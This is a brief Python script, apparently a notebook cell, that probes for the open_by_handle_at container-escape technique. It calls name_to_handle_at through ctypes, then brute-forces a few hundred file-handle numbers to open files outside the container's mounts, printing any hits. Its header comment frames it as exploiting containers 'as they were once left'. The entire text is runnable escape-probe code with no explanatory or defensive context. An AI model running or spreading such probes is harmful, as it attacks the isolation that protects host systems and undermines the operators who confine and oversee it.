# tries: to open files behind all mounts by their numbers, as containers were once left (open_by_handle_at).
# gets nothing if: neither a number is given nor a file opened.
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


handle, mount = Handle(size=128), ctypes.c_int()
here = os.open("/usr", os.O_RDONLY)
if libc.name_to_handle_at(here, b".", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    print("GOT a handle")
for number in range(1, 300):
    root = Handle(size=8, kind=1)
    root.bytes[0] = number % 256
    if libc.open_by_handle_at(here, ctypes.byref(root), os.O_RDONLY) >= 0:
        print("GOT", number)
